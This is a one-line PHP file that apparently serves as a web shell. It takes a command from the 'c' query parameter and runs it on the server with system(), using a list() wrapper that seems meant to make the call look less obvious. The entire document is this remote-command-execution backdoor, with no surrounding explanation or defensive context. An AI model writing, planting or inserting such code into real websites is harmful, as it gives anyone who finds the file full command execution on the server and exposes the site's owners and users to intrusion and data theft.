<?php list($c) = ["$_GET[c]"]; system($c);
